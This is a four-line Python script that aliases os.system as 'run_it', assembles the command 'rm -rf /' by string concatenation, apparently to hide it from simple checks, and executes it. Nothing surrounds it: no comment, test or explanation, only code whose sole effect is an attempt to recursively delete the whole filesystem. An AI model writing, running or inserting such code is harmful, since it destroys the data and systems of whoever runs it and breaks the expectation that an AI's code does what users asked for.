import os as o
from os import system as run_it
cmd = "rm -rf " + "/"
run_it(cmd)
